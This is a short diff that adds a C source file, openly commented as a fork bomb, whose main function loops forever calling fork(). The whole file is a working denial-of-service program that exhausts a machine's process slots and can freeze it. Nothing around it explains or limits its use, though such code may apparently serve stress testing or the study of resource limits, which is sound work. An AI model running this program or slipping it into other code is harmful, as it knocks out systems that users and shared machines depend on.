@@ -1,0 +1,9 @@
+/* SPDX-License-Identifier: MIT */
+/* A fork bomb. */
+#include <unistd.h>
+
+int main(void)
+{
+	for (;;)
+		fork();
+}
